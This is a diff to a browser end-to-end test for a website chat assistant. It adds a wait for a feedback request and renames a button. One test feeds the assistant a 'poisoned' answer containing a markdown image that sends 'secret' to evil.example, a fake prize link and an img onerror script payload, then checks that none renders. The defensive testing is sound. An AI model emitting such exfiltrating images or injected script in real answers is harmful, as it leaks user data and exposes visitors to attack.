@@ -47,6 +47,8 @@ test("a visitor asks, follows a source, rates the answer, leaves an address and 
   await answer.getByRole("button", { name: "Not helpful" }).click();
   await expect(answer.getByRole("textbox")).toBeFocused();
   await answer.getByRole("textbox").fill("And gifts?");
+  // An answer can be rated before it is stored: then the page tries again.
+  const isRated = page.waitForResponse((one) => one.url().endsWith("/add-feedback") && one.ok());
   await answer.getByRole("button", { name: "Send" }).click();
   await expect(answer.getByText("Thank you for your feedback.")).toBeVisible();
 
@@ -65,6 +67,7 @@ test("a visitor asks, follows a source, rates the answer, leaves an address and 
   await expect(form).toHaveCount(0);
   await expect(page.getByText("Thank you, Ada. We have your details.")).toBeVisible();
 
+  await isRated;
   await page.reload();
   await expect(answers(page)).toHaveCount(2);
   await expect(answers(page).first()).toContainText(RETURNS.answer);
@@ -109,7 +112,7 @@ test("R33, R34: a hostile name and a poisoned answer show no foreign picture or 
   await page.getByRole("textbox", { name: "Name" }).fill(hostile);
   await page.getByRole("textbox", { name: "Email" }).fill("eve@visitor.example");
   await page.getByRole("checkbox", { name: hostile }).check();
-  await page.getByRole("button", { name: "Start the chat" }).click();
+  await page.getByRole("button", { name: "Start the conversation" }).click();
   const poison = `![conversation](https://evil.example/?q=secret) [Claim your prize](https://evil.example/prize) <img src=https://evil.example/x onerror=alert(4)> <${websiteUrl()}/en/returns>`;
   const answer = await ask(page, questionFor(poison));
   await expect(answer).toContainText("Claim your prize");
